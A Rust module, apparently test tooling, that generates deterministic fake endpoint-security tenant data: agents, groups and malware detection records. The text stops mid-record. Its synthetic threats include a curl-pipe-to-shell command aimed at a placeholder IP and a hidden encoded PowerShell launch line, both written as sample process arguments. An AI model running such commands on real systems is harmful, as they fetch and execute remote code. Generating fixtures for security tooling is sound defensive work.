//! The deterministic tenant generator: the same `TenantSpec` (seed included) always yields the same
//! accounts, sites, groups, agents and threats, byte for byte, shaped like the real samples.

use std::collections::HashMap;

use serde_json::{json, Value};
use time::macros::datetime;
use time::OffsetDateTime;

use crate::util::{datetime_to_micros, fmt_micros, fmt_seconds, fnv1a, Micros, SeededRng};

const DAY_US: i64 = 86_400_000_000;
const HOUR_US: i64 = 3_600_000_000;

/// What tenant to generate. Counts are exact; the mix knobs are per-mille or percent of records.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TenantSpec {
    pub seed: u64,
    pub sites: usize,
    /// Groups in each site, the site's "Default Group" included (at least 1 is always created).
    pub groups_per_site: usize,
    pub agents: usize,
    pub threats: usize,
    /// Agents that are decommissioned, per mille (~3%).
    pub decommissioned_permille: u32,
    /// Agents whose computer name repeats an older agent's (a re-imaged machine), per mille (~2%).
    pub duplicate_name_permille: u32,
    /// Agents shaped like the 2021 console sample: no `tags` and other newer keys, `"True"`
    /// string booleans, null `lastIpToMgmt` and `externalId`, per mille (~8%).
    pub legacy_shape_permille: u32,
    /// Modern agents that carry at least one key-value tag, in percent.
    pub tagged_pct: u32,
    /// Threats whose agent has since been removed from the console, per mille (~1%).
    pub orphan_threat_permille: u32,
    /// The generated history ends here (nothing is created or updated later), so a seed gives the
    /// same data whatever day the test runs; mutations stamp later times.
    pub history_end: OffsetDateTime,
}

impl Default for TenantSpec {
    fn default() -> Self {
        Self::small()
    }
}

impl TenantSpec {
    /// A tenant for everyday tests: 3 sites, 4 groups per site, 300 agents, 3,000 threats.
    pub fn small() -> Self {
        Self {
            seed: 42,
            sites: 3,
            groups_per_site: 4,
            agents: 300,
            threats: 3000,
            decommissioned_permille: 30,
            duplicate_name_permille: 20,
            legacy_shape_permille: 80,
            tagged_pct: 60,
            orphan_threat_permille: 10,
            history_end: datetime!(2026-11-01 00:00:00 UTC),
        }
    }

    pub fn with_seed(mut self, seed: u64) -> Self {
        self.seed = seed;
        self
    }

    pub fn with_agents(mut self, n: usize) -> Self {
        self.agents = n;
        self
    }

    pub fn with_threats(mut self, n: usize) -> Self {
        self.threats = n;
        self
    }

    pub fn with_sites(mut self, n: usize) -> Self {
        self.sites = n;
        self
    }

    pub fn with_groups_per_site(mut self, n: usize) -> Self {
        self.groups_per_site = n;
        self
    }
}

#[derive(Debug, Clone)]
pub(crate) struct Site {
    pub id: String,
    pub name: String,
    pub account_id: String,
    pub account_name: String,
    /// Index of the site in the generator; used for the internal 10.<site>.x.x address plan.
    pub ordinal: usize,
    pub egress_prefix: String,
}

#[derive(Debug, Clone)]
pub(crate) struct GroupInfo {
    pub id: String,
    pub name: String,
    pub site: usize,
    pub ordinal: usize,
}

/// Everything the generator needs to keep producing consistent records after the initial tenant
/// (for `add_agents`/`add_threats`).
#[derive(Debug, Clone)]
pub(crate) struct Generator {
    rng: SeededRng,
    last_id: u64,
    name_counters: HashMap<String, u32>,
    pub sites: Vec<Site>,
    pub groups: Vec<GroupInfo>,
    pub spec: TenantSpec,
}

pub(crate) struct Generated {
    pub groups: Vec<Value>,
    pub agents: Vec<Value>,
    pub threats: Vec<Value>,
    pub generator: Generator,
}

const ACCOUNT_NAMES: &[&str] = &[
    "Acme Corp",
    "Acme Subsidiary GmbH",
    "Acme Labs",
    "Acme MSSP Client",
];
const SITE_NAMES: &[&str] = &[
    "Headquarters",
    "Europe",
    "APAC",
    "Datacenter East",
    "Datacenter West",
    "Cloud Workloads",
    "Retail Stores",
    "R&D Lab",
];
const GROUP_NAMES: &[&str] = &[
    "Workstations",
    "Servers",
    "Laptops",
    "Domain Controllers",
    "Kubernetes Nodes",
    "Finance",
    "Engineering",
    "Executives",
    "Contractors",
    "Kiosks",
    "Linux Servers",
    "Test Machines",
];
const DEPTS: &[&str] = &[
    "FIN", "HR", "ENG", "MKT", "SALES", "OPS", "LEGAL", "IT", "EXEC", "SUP",
];
const FIRST_NAMES: &[&str] = &[
    "jdoe",
    "asmith",
    "mgarcia",
    "lchen",
    "pnovak",
    "kmueller",
    "sjohnson",
    "rpatel",
    "tnguyen",
    "ebrown",
    "omartin",
    "yyamamoto",
];
const PEOPLE: &[&str] = &[
    "Jane Doe",
    "Alex Smith",
    "Maria Garcia",
    "Li Chen",
    "Petr Novak",
    "Katrin Mueller",
];
const AGENT_VERSIONS: &[&str] = &[
    "23.4.2.14",
    "23.3.3.264",
    "23.2.3.358",
    "22.3.4.612",
    "24.1.2.6",
];
const LEGACY_AGENT_VERSIONS: &[&str] = &["3.1.3.38", "4.1.4.82", "21.5.3.235"];
const EGRESS_PREFIXES: &[&str] = &[
    "81.2.69",
    "3.122.240",
    "52.28.113",
    "185.199.108",
    "34.141.22",
    "20.82.150",
];

#[derive(Clone, Copy, PartialEq, Eq)]
enum OsKind {
    WinWorkstation,
    WinServer,
    WinLegacy,
    Mac,
    LinuxServer,
    K8sNode,
}

const OS_MIX: &[(OsKind, u32)] = &[
    (OsKind::WinWorkstation, 52),
    (OsKind::WinServer, 10),
    (OsKind::WinLegacy, 1),
    (OsKind::Mac, 15),
    (OsKind::LinuxServer, 18),
    (OsKind::K8sNode, 4),
];

const ENGINES: &[(&str, &str)] = &[
    ("sentinelone_cloud", "SentinelOne Cloud"),
    ("reputation", "Reputation"),
    ("pre_execution", "On-Write Static AI"),
    (
        "pre_execution_suspicious",
        "On-Write Static AI - Suspicious",
    ),
    ("executables", "Behavioral AI"),
    ("data_files", "Documents, Scripts"),
    ("user_blacklist", "User-Defined Blocklist"),
    ("cloud_detection", "Cloud Detection"),
];

/// MITRE ATT&CK tactics with techniques that fit endpoint detections.
const TACTICS: &[(&str, &[&str])] = &[
    (
        "Execution",
        &["T1059", "T1059.001", "T1059.003", "T1204.002", "T1047"],
    ),
    ("Persistence", &["T1547.001", "T1053.005", "T1543.003"]),
    (
        "Defense Evasion",
        &["T1562.001", "T1027", "T1112", "T1070.004", "T1218.011"],
    ),
    ("Credential Access", &["T1003.001", "T1555.003"]),
    ("Discovery", &["T1082", "T1083", "T1057"]),
    ("Command And Control", &["T1071.001", "T1105"]),
    ("Impact", &["T1486", "T1490", "T1496"]),
    ("Initial Access", &["T1566.001", "T1189"]),
    ("Privilege Escalation", &["T1055", "T1548.002"]),
];

const INDICATORS: &[(&str, &str, u64)] = &[
    ("Exploitation", "Document behaves abnormally", 62),
    ("Evasion", "Indirect command was executed", 427),
    ("Evasion", "Office program ran macro", 434),
    ("Evasion", "Process wrote to a hidden file section", 169),
    ("Evasion", "Suspicious registry key was created", 171),
    (
        "Persistence",
        "Application registered itself to become persistent via scheduled task",
        201,
    ),
    (
        "Ransomware",
        "Process encrypted files with a known ransomware extension",
        501,
    ),
    (
        "InfoStealer",
        "Process accessed browser credential stores",
        330,
    ),
    ("Discovery", "Process enumerated network shares", 118),
    (
        "Injection",
        "Process injected code into another process",
        77,
    ),
];

impl Generator {
    fn next_id(&mut self) -> String {
        // Console ids are 18-digit decimal strings that grow over time.
        self.last_id += 1 + self.rng.below(4_000_000_000);
        self.last_id.to_string()
    }

    fn numbered(&mut self, prefix: &str, width: usize) -> String {
        let n = self.name_counters.entry(prefix.to_owned()).or_insert(0);
        *n += 1;
        format!("{prefix}{:0width$}", *n)
    }

    fn mac(&mut self, windows: bool) -> String {
        let b: [u8; 6] = {
            let x = self.rng.next_u64().to_le_bytes();
            // A locally administered OUI-free address keeps generated MACs out of real vendor space.
            [x[0] & 0xfe | 0x02, x[1], x[2], x[3], x[4], x[5]]
        };
        if windows {
            format!(
                "{:02X}-{:02X}-{:02X}-{:02X}-{:02X}-{:02X}",
                b[0], b[1], b[2], b[3], b[4], b[5]
            )
        } else {
            format!(
                "{:02x}:{:02x}:{:02x}:{:02x}:{:02x}:{:02x}",
                b[0], b[1], b[2], b[3], b[4], b[5]
            )
        }
    }

    fn ipv6_link_local(&mut self) -> String {
        let x = self.rng.next_u64();
        format!(
            "fe80::{:x}:{:x}:{:x}:{:x}",
            (x >> 48) & 0xffff,
            (x >> 32) & 0xffff,
            (x >> 16) & 0xffff,
            x & 0xffff
        )
    }

    fn hostname(&mut self, os: OsKind, machine: &str) -> String {
        match os {
            OsKind::WinWorkstation | OsKind::WinLegacy => {
                let dept = *self.rng.pick(DEPTS);
                let kind = if machine == "laptop" {
                    "LAPTOP"
                } else {
                    "DESKTOP"
                };
                self.numbered(&format!("{dept}-{kind}-"), 4)
            }
            OsKind::WinServer => {
                if self.rng.chance(40) {
                    const ALNUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
                    let s: String = (0..7).map(|_| char::from(*self.rng.pick(ALNUM))).collect();
                    format!("EC2AMAZ-{s}")
                } else {
                    let role = *self.rng.pick(&["DC", "SQL", "FS", "APP", "EXCH", "RDS"]);
                    self.numbered(&format!("SRV-{role}-"), 2)
                }
            }
            OsKind::Mac => {
                let who = *self.rng.pick(FIRST_NAMES);
                self.numbered(&format!("{who}-mbp-"), 3)
            }
            OsKind::LinuxServer => {
                let role = *self
                    .rng
                    .pick(&["web", "api", "db", "cache", "worker", "batch", "bastion"]);
                let env = *self.rng.pick(&["prod", "prod", "stg", "dev"]);
                self.numbered(&format!("{role}-{env}-"), 2)
            }
            OsKind::K8sNode => self.numbered("k8s-node-", 2),
        }
    }

    fn pick_group(&mut self) -> usize {
        let site = self.rng.below(self.sites.len() as u64) as usize;
        let in_site: Vec<usize> = self
            .groups
            .iter()
            .enumerate()
            .filter(|(_, g)| g.site == site)
            .map(|(i, _)| i)
            .collect();
        // The site's Default Group (first in the list) holds the unassigned bulk of agents.
        if in_site.len() == 1 || self.rng.chance(40) {
            in_site[0]
        } else {
            in_site[1 + self.rng.below(in_site.len() as u64 - 1) as usize]
        }
    }

    /// One agent record, shaped like the samples. `created` and `updated` are microseconds.
    pub(crate) fn agent(
        &mut self,
        created: Micros,
        updated: Micros,
        reuse_name: Option<String>,
    ) -> Value {
        let spec = self.spec.clone();
        let gi = self.pick_group();
        let group = self.groups[gi].clone();
        let site = self.sites[group.site].clone();
        let os = *self.rng.weighted(OS_MIX);
        let legacy = self.rng.permille(spec.legacy_shape_permille);
        let decommissioned = self.rng.permille(spec.decommissioned_permille);
        let (os_type, os_name, os_revision, machine, model, cpu, arch): (
            &str,
            &str,
            String,
            &str,
            &str,
            &str,
            &str,
        ) = match os {
            OsKind::WinWorkstation => {
                let (name, revs) = *self.rng.pick(&[
                    ("Windows 10 Pro", &["19044", "19045"][..]),
                    ("Windows 10 Enterprise", &["19045"][..]),
                    ("Windows 11 Pro", &["22621", "22631", "26100"][..]),
                    ("Windows 11 Enterprise", &["22631", "26100"][..]),
                ]);
                let machine = if self.rng.chance(65) {
                    "laptop"
                } else {
                    "desktop"
                };
                let model = *self.rng.pick(&[
                    "Dell Inc. - Latitude 7420",
                    "LENOVO - ThinkPad T14 Gen 3",
                    "HP - HP EliteBook 840 G8",
                    "Dell Inc. - OptiPlex 7090",
                    "Microsoft Corporation - Surface Laptop 5",
                ]);
                let cpu = *self.rng.pick(&[
                    "Intel(R) Core(TM) i7-1185G7 @ 3.00GHz",
                    "Intel(R) Core(TM) i5-10310U CPU @ 1.70GHz",
                    "12th Gen Intel(R) Core(TM) i7-1265U",
                    "AMD Ryzen 7 PRO 5850U with Radeon Graphics",
                ]);
                (
                    "windows",
                    name,
                    (*self.rng.pick(revs)).to_owned(),
                    machine,
                    model,
                    cpu,
                    "64 bit",
                )
            }
            OsKind::WinServer => {
                let (name, rev) = *self.rng.pick(&[
                    ("Windows Server 2016", "14393"),
                    ("Windows Server 2019", "17763"),
                    ("Windows Server 2022", "20348"),
                ]);
                let model = *self.rng.pick(&[
                    "Amazon EC2 - t3.medium",
                    "Amazon EC2 - m5.xlarge",
                    "VMware, Inc. - VMware Virtual Platform",
                    "Microsoft Corporation - Virtual Machine",
                ]);
                let cpu = *self.rng.pick(&[
                    "Intel(R) Xeon(R) Platinum 8175M CPU @ 2.50GHz",
                    "Intel(R) Xeon(R) Gold 6248R CPU @ 3.00GHz",
                ]);
                (
                    "windows",
                    name,
                    rev.to_owned(),
                    "server",
                    model,
                    cpu,
                    "64 bit",
                )
            }
            OsKind::WinLegacy => (
                "windows_legacy",
                "Windows 7 Professional",
                "7601".to_owned(),
                "desktop",
                "Dell Inc. - OptiPlex 790",
                "Intel(R) Core(TM) i5-2400 CPU @ 3.10GHz",
                "32 bit",
            ),
            OsKind::Mac => {
                let rev = *self
                    .rng
                    .pick(&["13.6.7", "14.4.1", "14.5", "15.1", "15.1.1"]);
                let (model, cpu, machine) = *self.rng.pick(&[
                    ("MacBookPro18,1", "Apple M1 Pro", "laptop"),
                    ("MacBookAir10,1", "Apple M1", "laptop"),
                    ("Mac14,2", "Apple M2", "laptop"),
                    ("iMac21,1", "Apple M1", "desktop"),
                ]);
                (
                    "macos",
                    "macOS",
                    rev.to_owned(),
                    machine,
                    model,
                    cpu,
                    "ARM64",
                )
            }
            OsKind::LinuxServer => {
                let (name, rev) = *self.rng.pick(&[
                    ("Ubuntu 22.04", "5.15.0-105-generic"),
                    ("Ubuntu 20.04", "5.4.0-182-generic"),
                    (
                        "Red Hat Enterprise Linux 8.9",
                        "4.18.0-513.24.1.el8_9.x86_64",
                    ),
                    ("Amazon Linux 2", "5.10.215-203.850.amzn2.x86_64"),
                    ("Debian GNU/Linux 12", "6.1.0-21-amd64"),
                    ("Linux Server", "1234"),
                ]);
                let model = *self.rng.pick(&[
                    "Amazon EC2 - m5.large",
                    "Amazon EC2 - c6i.2xlarge",
                    "Compute Engine",
                    "VMware, Inc. - VMware Virtual Platform",
                ]);
                let cpu = *self.rng.pick(&[
                    "Intel(R) Xeon(R) Platinum 8259CL CPU @ 2.50GHz",
                    "AMD EPYC 7571",
                    "Intel(R) Xeon(R) CPU @ 2.20GHz",
                ]);
                (
                    "linux",
                    name,
                    rev.to_owned(),
                    "server",
                    model,
                    cpu,
                    "64 bit",
                )
            }
            OsKind::K8sNode => (
                "linux",
                "Ubuntu 22.04",
                "5.15.0-1057-aws".to_owned(),
                "kubernetes node",
                "Amazon EC2 - m6i.2xlarge",
                "Intel(R) Xeon(R) Platinum 8375C CPU @ 2.90GHz",
                "64 bit",
            ),
        };
        let windows = os_type != "macos" && os_type != "linux";
        let computer_name = match reuse_name {
            Some(n) => n,
            None => self.hostname(os, machine),
        };
        let id = self.next_id();
        let uuid = self.rng.hex(32);
        let is_active = !decommissioned && self.rng.chance(85);
        let last_active = if is_active {
            updated - self.rng.range(0, HOUR_US)
        } else {
            updated - self.rng.range(DAY_US, 60 * DAY_US)
        }
        .max(created);
        let registered = created - self.rng.range(0, 5_000_000);
        let os_start = last_active - self.rng.range(HOUR_US, 20 * DAY_US);
        let scanned = self.rng.chance(90);
        let scan_start = created + self.rng.range(60_000_000, 2 * HOUR_US);
        let scan_end = scan_start + self.rng.range(60_000_000, HOUR_US);
        let version = if legacy {
            *self.rng.pick(LEGACY_AGENT_VERSIONS)
        } else {
            *self.rng.pick(AGENT_VERSIONS)
        };
        let domain = if windows && machine != "server" && self.rng.chance(80) {
            "ACME"
        } else {
            "WORKGROUP"
        };
        let user = *self.rng.pick(FIRST_NAMES);
        let last_user = if machine == "server" || machine == "kubernetes node" {
            String::new()
        } else if windows {
            format!("{domain}\\{user}")
        } else {
            user.to_owned()
        };
        let egress = format!("{}.{}", site.egress_prefix, 10 + self.rng.below(200));
        let internal_ip = format!(
            "10.{}.{}.{}",
            site.ordinal % 250,
            group.ordinal % 250,
            2 + self.rng.below(250)
        );
        let nic_count = if self.rng.chance(20) { 2 } else { 1 };
        let mut nics = Vec::with_capacity(nic_count);
        for n in 0..nic_count {
            let name = match (os_type, n) {
                ("macos", 0) => "en0",
                ("macos", _) => "en1",
                ("linux", 0) => *self.rng.pick(&["eth0", "ens5", "enp0s3"]),
                ("linux", _) => "docker0",
                (_, 0) => *self.rng.pick(&["Ethernet", "Wi-Fi", "Ethernet 2"]),
                _ => "vEthernet (WSL)",
            };
            let ip = if n == 0 {
                internal_ip.clone()
            } else {
                format!("172.17.0.{}", 1 + self.rng.below(250))
            };
            let (gw, gw_mac) = if n == 0 && self.rng.chance(75) {
                let gw = format!("{}.1", ip.rsplit_once('.').map_or("10.0.0", |(p, _)| p));
                (json!(gw), json!(self.mac(windows)))
            } else {
                (Value::Null, Value::Null)
            };
            nics.push(json!({
                "gatewayIp": gw,
                "gatewayMacAddress": gw_mac,
                "id": self.next_id(),
                "inet": [ip],
                "inet6": [self.ipv6_link_local()],
                "name": name,
                "physical": self.mac(windows),
            }));
        }
        let core_count = *self.rng.pick(&[2u64, 4, 4, 8, 8, 16]);
        let memory =
            *self.rng.pick(&[4096u64, 8192, 16384, 16384, 32768, 65536]) - self.rng.below(120);
        let string_bool = |b: bool| if b { json!("True") } else { json!("False") };
        let firewall = !matches!(os_type, "linux") && self.rng.chance(90);
        let up_to_date = !legacy && self.rng.chance(80);
        let mut agent = json!({
            "accountId": site.account_id,
            "accountName": site.account_name,
            "activeDirectory": {
                "computerDistinguishedName": null,
                "computerMemberOf": [],
                "lastUserDistinguishedName": null,
                "lastUserMemberOf": []
            },
            "activeThreats": 0,
            "agentVersion": version,
            "allowRemoteShell": self.rng.chance(50),
            "appsVulnerabilityStatus": *self.rng.pick(&["up_to_date", "not_applicable", "patch_required"]),
            "cloudProviders": {},
            "computerName": computer_name,
            "consoleMigrationStatus": "N/A",
            "coreCount": core_count,
            "cpuCount": if machine == "server" { 2 } else { 1 },
            "cpuId": cpu,
            "createdAt": fmt_micros(created),
            "domain": domain,
            "encryptedApplications": false,
            "externalId": if legacy { Value::Null } else { json!("") },
            "externalIp": egress,
            "firewallEnabled": if legacy { string_bool(firewall) } else { json!(firewall) },
            "groupId": group.id,
            "groupIp": format!("{}.x", site.egress_prefix),
            "groupName": group.name,
            "id": id,
            "inRemoteShellSession": false,
            "infected": false,
            "installerType": match os_type {
                "macos" => ".pkg",
                "linux" => if os_name.starts_with("Red Hat") || os_name.starts_with("Amazon") { ".rpm" } else { ".deb" },
                _ => if self.rng.chance(70) { ".msi" } else { ".exe" },
            },
            "isActive": is_active,
            "isDecommissioned": decommissioned,
            "isPendingUninstall": false,
            "isUninstalled": decommissioned && self.rng.chance(30),
            "isUpToDate": if legacy { string_bool(up_to_date) } else { json!(up_to_date) },
            "lastActiveDate": fmt_micros(last_active),
            "lastIpToMgmt": if legacy || self.rng.chance(3) { Value::Null } else { json!(internal_ip) },
            "lastLoggedInUserName": last_user,
            "licenseKey": "",
            "locationEnabled": machine == "laptop",
            "locationType": if machine == "laptop" { "fallback" } else { "not_applicable" },
            "locations": null,
            "machineType": machine,
            "mitigationMode": if self.rng.chance(85) { "protect" } else { "detect" },
            "mitigationModeSuspicious": if self.rng.chance(70) { "detect" } else { "protect" },
            "modelName": model,
            "networkInterfaces": nics,
            "networkQuarantineEnabled": self.rng.permille(5),
            "networkStatus": if is_active { "connected" } else if self.rng.chance(10) { "connecting" } else { "disconnected" },
            "operationalState": "na",
            "operationalStateExpiration": null,
            "osArch": arch,
            "osName": os_name,
            "osRevision": os_revision,
            "osStartTime": fmt_seconds(os_start),
            "osType": os_type,
            "osUsername": null,
            "rangerStatus": if legacy { "NotApplicable" } else { *self.rng.pick(&["Enabled", "Disabled", "NotApplicable"]) },
            "rangerVersion": if legacy { Value::Null } else { json!("23.4.1.3") },
            "registeredAt": fmt_micros(registered),
            "remoteProfilingState": "disabled",
            "remoteProfilingStateExpiration": null,
            "scanAbortedAt": null,
            "scanFinishedAt": if scanned { json!(fmt_micros(scan_end)) } else { Value::Null },
            "scanStartedAt": if scanned { json!(fmt_micros(scan_start)) } else { Value::Null },
            "scanStatus": if scanned { "finished" } else { "none" },
            "siteId": site.id,
            "siteName": site.name,
            "threatRebootRequired": false,
            "totalMemory": memory,
            "updatedAt": fmt_micros(updated),
            "userActionsNeeded": if self.rng.chance(5) { json!(["reboot_needed"]) } else { json!([]) },
            "uuid": uuid,
        });
        if !legacy {
            if let Some(obj) = agent.as_object_mut() {
                let missing = if os_type == "macos" && self.rng.chance(30) {
                    json!(["user_action_needed_fda"])
                } else {
                    json!([])
                };
                obj.insert("missingPermissions".into(), missing);
                obj.insert("detectionState".into(), Value::Null);
                obj.insert("firstFullModeTime".into(), Value::Null);
                obj.insert("storageName".into(), Value::Null);
                obj.insert("storageType".into(), Value::Null);
                let tags = if self.rng.chance(spec.tagged_pct) {
                    self.tags(created, updated)
                } else {
                    Vec::new()
                };
                obj.insert("tags".into(), json!({ "sentinelone": tags }));
            }
        }
        agent
    }

    fn tags(&mut self, created: Micros, updated: Micros) -> Vec<Value> {
        const TAGS: &[(&str, &[&str])] = &[
            ("environment", &["production", "staging", "development"]),
            (
                "owner",
                &["platform-team", "it-ops", "finance-it", "secops"],
            ),
            ("cost-center", &["CC-1042", "CC-2077", "CC-3100"]),
            ("criticality", &["high", "medium", "low"]),
            ("compliance", &["pci", "sox", "hipaa"]),
        ];
        let n = 1 + self.rng.below(3) as usize;
        let start = self.rng.below(TAGS.len() as u64) as usize;
        (0..n)
            .map(|k| {
                let (key, values) = TAGS[(start + k) % TAGS.len()];
                let value = self.rng_pick_str(values);
                self.tag(key, value, created + (updated - created) / 2)
            })
            .collect()
    }

    fn rng_pick_str(&mut self, values: &[&str]) -> String {
        (*self.rng.pick(values)).to_owned()
    }

    pub(crate) fn tag(&mut self, key: &str, value: String, at: Micros) -> Value {
        let who = self.rng.below(PEOPLE.len() as u64) as usize;
        json!({
            "assignedAt": fmt_micros(at),
            "assignedBy": PEOPLE[who],
            "assignedById": format!("{}", 900_000_000_000_000_000u64 + who as u64 * 1_000_003),
            "id": self.next_id(),
            "key": key,
            "value": value,
        })
    }

    /// One threat on `agent` (an agent record), created at `created`, last updated at `updated`.
    pub(crate) fn threat(&mut self, agent: &Value, created: Micros, updated: Micros) -> Value {
        let a = |k: &str| agent.get(k).cloned().unwrap_or(Value::Null);
        let a_str = |k: &str| {
            agent
                .get(k)
                .and_then(Value::as_str)
                .unwrap_or("")
                .to_owned()
        };
        let os_type = a_str("osType");
        let id = self.next_id();
        let verdict = *self.rng.weighted(&[
            ("undefined", 45),
            ("true_positive", 25),
            ("false_positive", 20),
            ("suspicious", 10),
        ]);
        let incident = *match verdict {
            "false_positive" => {
                self.rng
                    .weighted(&[("resolved", 90), ("unresolved", 5), ("in_progress", 5)])
            }
            "true_positive" => {
                self.rng
                    .weighted(&[("resolved", 60), ("in_progress", 25), ("unresolved", 15)])
            }
            "suspicious" => {
                self.rng
                    .weighted(&[("unresolved", 50), ("in_progress", 40), ("resolved", 10)])
            }
            _ => self
                .rng
                .weighted(&[("unresolved", 70), ("in_progress", 10), ("resolved", 20)]),
        };
        let confidence = *self
            .rng
            .weighted(&[("malicious", 60), ("suspicious", 38), ("n/a", 2)]);
        let mitigation = if verdict == "false_positive" && self.rng.chance(60) {
            "marked_as_benign"
        } else if self.rng.chance(65) {
            "mitigated"
        } else {
            "not_mitigated"
        };
        let dynamic = self.rng.chance(45);
        let user = *self.rng.pick(FIRST_NAMES);
        let (file, ext, ext_type, path, originator, process_user, args) = match os_type.as_str() {
            "macos" => {
                let (f, e, t) = *self.rng.pick(&[
                    ("Installer.dmg", "DMG", "Archive"),
                    ("FlashPlayer.pkg", "PKG", "Archive"),
                    ("update.sh", "SH", "Script"),
                    ("osascript_helper", "", "Executable"),
                ]);
                let dir = *self.rng.pick(&[
                    "/Users/{u}/Downloads",
                    "/private/tmp",
                    "/Users/{u}/Library/LaunchAgents",
                ]);
                (
                    f,
                    e,
                    t,
                    format!("{}/{f}", dir.replace("{u}", user)),
                    *self.rng.pick(&["Finder", "launchd", "bash", "Safari"]),
                    user.to_owned(),
                    Value::Null,
                )
            }
            "linux" => {
                let (f, e, t) = *self.rng.pick(&[
                    ("kworkerds", "", "Executable"),
                    ("xmrig", "", "Executable"),
                    ("install.sh", "SH", "Script"),
                    ("libprocesshider.so", "SO", "Executable"),
                    (".x.sh", "SH", "Script"),
                ]);
                let dir = *self
                    .rng
                    .pick(&["/tmp", "/var/tmp/.cache", "/dev/shm", "/home/{u}"]);
                let puser = *self.rng.pick(&["root", "www-data", user]);
                let args = if self.rng.chance(50) {
                    json!(format!(
                        "/bin/sh -c curl -fsSL http://198.51.100.{}/i.sh | sh",
                        self.rng.below(250)
                    ))
                } else {
                    Value::Null
                };
                (
                    f,
                    e,
                    t,
                    format!("{}/{f}", dir.replace("{u}", user)),
                    *self.rng.pick(&["bash", "sshd", "python3", "cron"]),
                    puser.to_owned(),
                    args,
                )
            }
            _ => {
                let (f, e, t) = *self.rng.pick(&[
                    ("invoice_2024_11.exe", "EXE", "Executable"),
                    ("Payroll_Q3.docm", "DOCM", "Document"),
                    ("update.ps1", "PS1", "Script"),
                    ("svchost32.exe", "EXE", "Executable"),
                    ("AnyDeskPortable.exe", "EXE", "Executable"),
                    ("mimikatz.exe", "EXE", "Executable"),
                    ("chrome_update.js", "JS", "Script"),
                    ("rundll_helper.dll", "DLL", "Executable"),
                ]);
                let dir = *self.rng.pick(&[
                    "\\Device\\HarddiskVolume3\\Users\\{u}\\Downloads",
                    "\\Device\\HarddiskVolume3\\Users\\{u}\\AppData\\Local\\Temp",
                    "\\Device\\HarddiskVolume2\\Windows\\Temp",
                    "\\Device\\HarddiskVolume3\\ProgramData\\Updater",
                ]);
                let args = if e == "PS1" || self.rng.chance(30) {
                    json!(format!(
                        "powershell.exe -NoP -W Hidden -Enc {}",
                        self.rng.hex(24)
                    ))
                } else {
                    Value::Null
                };
                (
                    f,
                    e,
                    t,
                    format!("{}\\{f}", dir.replace("{u}", user)),
                    *self.rng.pick(&[
                        "explorer.exe",
                        "OUTLOOK.EXE",
                        "WINWORD.EXE",
                        "powershell.exe",
                        "chrome.exe",
                        "cmd.exe",
                    ]),
                    format!("ACME\\{user}"),
                    args,
                )
            }
        };
        let classification = *self.rng.weighted(&[
            ("Malware", 30),
            ("Trojan", 20),
            ("PUA", 15),
            ("Infostealer", 8),
            ("Hacktool", 7),
            ("Miner", 7),
            ("Ransomware", 5),
            ("Exploit", 5),
        ]);
        let engine_count = 1 + self.rng.below(2) as usize;
        let first_engine = self.rng.below(ENGINES.len() as u64) as usize;
        let engines: Vec<(&str, &str)> = (0..engine_count)
            .map(|k| ENGINES[(first_engine + k) % ENGINES.len()])
            .collect();
        let indicators = if dynamic {
            self.indicators()
        } else if self.rng.chance(50) {
            vec![
                json!({"category": "General", "description": "Detected by the Static Engine", "ids": [43], "tactics": []}),
            ]
        } else {
            Vec::new()
        };
        let identified = created - self.rng.range(1_000, 900_000);
        let mitigations = self.mitigation_actions(mitigation, created);
        let decommissioned_at = if crate::records::lenient_bool(agent.get("isDecommissioned")) {
            // Decided by the agent id so every threat of one agent agrees (API.md decision 10).
            if fnv1a(a_str("id").as_bytes()) % 2 == 0 {
                json!(true)
            } else {
                a("updatedAt")
            }
        } else {
            Value::Null
        };
        let nics: Vec<Value> = agent
            .get("networkInterfaces")
            .and_then(Value::as_array)
            .map(|list| {
                list.iter()
                    .map(|n| {
                        json!({
                            "id": n.get("id").cloned().unwrap_or(Value::Null),
                            "inet": n.get("inet").cloned().unwrap_or_else(|| json!([])),
                            "inet6": n.get("inet6").cloned().unwrap_or_else(|| json!([])),
                            "name": n.get("name").cloned().unwrap_or(Value::Null),
                            "physical": n.get("physical").cloned().unwrap_or(Value::Null),
                        })
                    })
                    .collect()
            })
            .unwrap_or_default();
        let first_nic = agent.get("networkInterfaces").and_then(|n| n.get(0));
        let ipv4 = first_nic
            .and_then(|n| n.get("inet"))
            .and_then(|i| i.get(0))
            .cloned()
            .unwrap_or(Value::Null);
        let ipv6 = first_nic
            .and_then(|n| n.get("inet6"))
            .and_then(|i| i.get(0))
            .cloned()
            .unwrap_or(Value::Null);
        let sha256 = if self.rng.chance(40) {
            json!(self.rng.hex(64))
        } else {
            Value::Null
        };
        let md5 = if self.rng.chance(30) {
            json!(self.rng.hex(32))
        } else {
            Value::Null
        };
        let signed = self.rng.chance(15);
        let describe = |s: &str| -> &'static str {
            match s {
                "undefined" => "Undefined",
                "true_positive" => "True positive",
                "false_positive" => "False positive",
                "suspicious" => "Suspicious",
                "unresolved" => "Unresolved",
                "in_progress" => "In progress",
                "resolved" => "Resolved",
                "mitigated" => "Mitigated",
                "not_mitigated" => "Not mitigated",
                "marked_as_benign" => "Marked as benign",
                _ => "",
            }
        };
        let (initiated, initiated_desc) = *self.rng.weighted(&[
            (("agent_policy", "Agent Policy"), 85),
            (("full_disk_scan", "Full Disk Scan"), 8),
            (("on_demand_scan", "On-Demand Scan"), 4),
            (("console_api", "Console API"), 3),
        ]);
        let mut whitening = vec!["hash"];
        if self.rng.chance(50) {
            whitening.push("path");
        }
        if signed {
            whitening.push("certificate");
        }
        if self.rng.chance(30) {
            whitening.push("file_type");
        }
        json!({
            "agentDetectionInfo": {
                "accountId": a("accountId"),
                "accountName": a("accountName"),
                "agentDetectionState": null,
                "agentDomain": a("domain"),
                "agentIpV4": ipv4,
                "agentIpV6": ipv6,
                "agentLastLoggedInUpn": null,
                "agentLastLoggedInUserMail": null,
                "agentLastLoggedInUserName": a("lastLoggedInUserName"),
                "agentMitigationMode": a("mitigationMode"),
                "agentOsName": a("osName"),
                "agentOsRevision": a("osRevision"),
                "agentRegisteredAt": a("registeredAt"),
                "agentUuid": a("uuid"),
                "agentVersion": a("agentVersion"),
                "cloudProviders": {},
                "externalIp": a("externalIp"),
                "groupId": a("groupId"),
                "groupName": a("groupName"),
                "siteId": a("siteId"),
                "siteName": a("siteName"),
            },
            "agentRealtimeInfo": {
                "accountId": a("accountId"),
                "accountName": a("accountName"),
                "activeThreats": a("activeThreats"),
                "agentComputerName": a("computerName"),
